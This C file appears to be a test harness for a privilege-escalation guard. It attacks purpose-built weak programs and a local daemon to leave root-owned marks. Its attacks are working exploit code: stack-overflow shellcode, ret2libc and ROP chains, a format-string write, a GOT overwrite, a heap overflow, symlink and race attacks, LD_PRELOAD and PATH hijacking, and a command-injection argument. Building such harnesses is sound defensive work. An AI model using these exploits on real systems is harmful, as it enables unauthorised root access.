// SPDX-License-Identifier: MIT
/*
 * `attack NAME` hijacks a weak program as user 1000, by what it lets a user say to it. Without the
 * guard, each leaves root's mark of that name. `attack harmless` is what the programs are for;
 * `attack grant FILE` gives a file cap_setuid, as root.
 */
#include "exploit.h"

#include <linux/capability.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/xattr.h>

/* The weak program's return address is at most this far behind its buffer of 128 bytes. */
#define REACH 192
#define COMMAND 448

static void put_mark(char *strings, unsigned long address, const char *name)
{
	unsigned long arguments[] = {address + 24, address + 40, 0};

	memcpy(strings, arguments, sizeof arguments);
	strcpy(strings + 24, MARK);
	strcpy(strings + 40, name);
}

/* Fills in the message, whose first 128 bytes lie in the victim's buffer. Its returns reach the
 * chain at REACH. */
static void overflow(const char *name, char *message, unsigned long buffer)
{
	struct chain sled = {message + 128, buffer + 128};
	unsigned long entry = RET;

	if (!strcmp(name, "shellcode")) {
		put_code(message, name);
		entry = buffer;
	}
	while (sled.at < message + REACH)
		put(&sled, entry);
	if (!strcmp(name, "libc")) {
		/* Functions use the stack below their arguments: the command lies above. */
		strcpy(message + COMMAND, MARK " libc");
		call(&sled, "setuid", 0);
		call(&sled, "system", buffer + COMMAND);
	} else if (!strcmp(name, "rop")) {
		put_mark(message, buffer, name);
		call_kernel(&sled, SYS_execve, buffer + 24, buffer, 0);
	} else if (!strcmp(name, "chmod")) {
		strcpy(message, "/h/shell");
		call_kernel(&sled, SYS_chmod, buffer, 04755, 0);
	} else if (!strcmp(name, "module")) {
		call_kernel(&sled, SYS_finit_module, 9, buffer, 0);
	}
	call(&sled, "_exit", 99);
}

static int run(const char *program, char *const arguments[], char *const environment[])
{
	int status;

	if (!fork()) {
		execve(program, arguments, environment);
		_exit(127);
	}
	wait(&status);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* Room on the stack above the buffer. */
static char padding[1500];

static int weak(const char *name, int harmless)
{
	int to[2], from[2], status;
	unsigned long buffer, out;
	char message[512] = "";

	memset(padding, 'x', sizeof padding - 1);
	REQUIRE(!pipe(to) && !pipe(from));
	if (!fork()) {
		dup2(to[0], 0);
		dup2(from[1], 1);
		execve("/h/weak", (char *[]){"weak", 0}, (char *[]){padding, 0});
		_exit(127);
	}
	REQUIRE(fscanf(fdopen(from[0], "r"), "%lx %lx", &buffer, &out) == 2);
	victim_stdout(out);
	if (harmless)
		strcpy(message, "hello");
	else
		overflow(name, message, buffer);
	size_t length = harmless ? 6 : sizeof message;

	REQUIRE(write(to[1], message, length) == (ssize_t)length);
	wait(&status);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* A connection to the daemon, and what it has said of itself. */
static int daemon_socket;
static unsigned long values, finish;

static void ask(const char *message, size_t length, char reply[512])
{
	REQUIRE(send(daemon_socket, message, length, MSG_NOSIGNAL) == (ssize_t)length);
	long got = read(daemon_socket, reply, 511);

	reply[got > 0 ? got : 0] = 0;
}

static void say(const char *message)
{
	char reply[512];

	ask(message, strlen(message), reply);
}

static void reach_daemon(void)
{
	struct sockaddr_un address = {AF_UNIX, "/run/daemon"};
	unsigned long line, out;
	char reply[512];

	daemon_socket = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	REQUIRE(!connect(daemon_socket, (void *)&address, sizeof address));
	REQUIRE(read(daemon_socket, reply, sizeof reply) > 0);
	REQUIRE(sscanf(reply, "%lx %lx %lx %lx", &line, &out, &values, &finish) == 4);
	victim_stdout(out);
}

/* Which argument of the daemon's format are the bytes 256 behind its line? */
static int argument_of_line(void)
{
	char message[264] = "", reply[512];

	memcpy(message + 256, "hijacked", 8);
	for (int argument = 6; argument < 300; argument++) {
		snprintf(message, 64, "p %%%d$lx", argument);
		ask(message, sizeof message, reply);
		if (!strncmp(reply, "64656b63616a6968", 16))
			return argument;
	}
	exit(2);
}

/* Writes the address of system(3) over the daemon's last call, in parts of 16 bits. */
static void format(void)
{
	int first = argument_of_line(), written = 0;
	unsigned long system = libc_symbol("system");
	char message[280] = "p " MARK " format #", reply[512];
	char *at = message + strlen(message);

	written = strlen(message) - 2;
	for (int part = 0; part < 3; part++) {
		int wanted = system >> (16 * part) & 0xffff, more = (wanted - written) & 0xffff;
		unsigned long place = finish + 2 * part;

		at += sprintf(at, "%%%dc%%%d$hn", more ? more : 0x10000, first + part);
		written = wanted;
		memcpy(message + 256 + 8 * part, &place, sizeof place);
	}
	ask(message, sizeof message, reply);
}

/* Writes the address of system(3) into the daemon's linkage table, by an index below its values. */
static void linkage(void)
{
	char message[128];
	long slot = slot_of("/h/daemon", "strdup");

	snprintf(message, sizeof message, "s %ld %lu", (slot - (long)values) / 8,
		 libc_symbol("system"));
	say(message);
	say(MARK " got");
}

static void heap(void)
{
	char message[64] = "n " MARK " heap";
	unsigned long system = libc_symbol("system"), size = 0x21;

	/* 32 bytes of the name, 8 of the allocator with the next one's size, the entry's number,
	 * and its function. */
	memcpy(message + 2 + 40, &size, 8);
	memcpy(message + 2 + 56, &system, sizeof message - 58);
	char reply[512];

	ask(message, 2 + 56 + 6, reply);
}

static void link_log(void)
{
	unlink("/tmp/log/daemon.log");
	REQUIRE(!symlink("/marks/symlink", "/tmp/log/daemon.log"));
	say("l root's line");
}

static void race(void)
{
	close(open("/tmp/user/race", O_WRONLY | O_CREAT, 0644));
	if (!fork()) {
		usleep(100000);
		REQUIRE(!unlink("/tmp/user/race") && !symlink("/marks/race", "/tmp/user/race"));
		_exit(0);
	}
	say("k /tmp/user/race");
	wait(0);
}

static int harmless(void)
{
	char *environment[] = {"PATH=/h", 0};

	reach_daemon();
	unlink("/tmp/log/daemon.log");
	say("l line");
	close(open("/tmp/user/kept", O_WRONLY | O_CREAT, 0644));
	say("k /tmp/user/kept");
	say("p line");
	say("s 1 1");
	say("n name");
	return weak("", 1) | run("/h/capable", (char *[]){"capable", "user", 0}, environment) |
	       run("/h/careless", (char *[]){"careless", "searched", "user", 0}, environment) |
	       run("/h/careless", (char *[]){"careless", "fixed", "user", 0}, environment) |
	       run("/h/careless", (char *[]){"careless", "words", "user", 0}, environment);
}

static int grant(const char *path)
{
	struct vfs_cap_data data = {VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE,
				    {{1 << CAP_SETUID, 0}}};

	REQUIRE(!setxattr(path, "security.capability", &data, sizeof data, 0));
	return 0;
}

#define PRELOAD "LD_PRELOAD=/h/preload.so"

static const struct {
	const char *name;
	void (*act)(void);
} OF_DAEMON[] = {{"format", format},
		 {"got", linkage},
		 {"heap", heap},
		 {"symlink", link_log},
		 {"race", race}};

int main(int argc, char **argv)
{
	char *path[] = {"PATH=/tmp/user", 0}, *none[] = {0};
	const char *name = argc > 1 ? argv[1] : "";

	if (!strcmp(name, "grant") && argc > 2)
		return grant(argv[2]);
	if (!strcmp(name, "module"))
		REQUIRE(dup2(open("/lib/modules/dummy.ko", O_RDONLY), 9) == 9);
	REQUIRE(!setgid(1000) && !setuid(1000));
	if (!strcmp(name, "harmless"))
		return harmless();
	for (size_t i = 0; i < ARRAY(OF_DAEMON); i++) {
		if (strcmp(name, OF_DAEMON[i].name))
			continue;
		reach_daemon();
		OF_DAEMON[i].act();
		return 0;
	}
	if (!strcmp(name, "environment"))
		return run("/h/careless",
			   (char *[]){"careless", "fixed", "environment", PRELOAD, 0}, none);
	if (!strcmp(name, "capability"))
		return run("/h/capable", (char *[]){"capable", "capability", PRELOAD, 0}, none);
	if (!strcmp(name, "path"))
		return run("/h/careless", (char *[]){"careless", "searched", "path", 0}, path);
	if (!strcmp(name, "words"))
		return run("/h/careless",
			   (char *[]){"careless", "words", "user; " MARK " words", 0}, none);
	int ended = weak(name, 0);

	return !strcmp(name, "chmod") ? run("/h/shell", (char *[]){"shell", "chmod", 0}, none)
				      : ended;
}
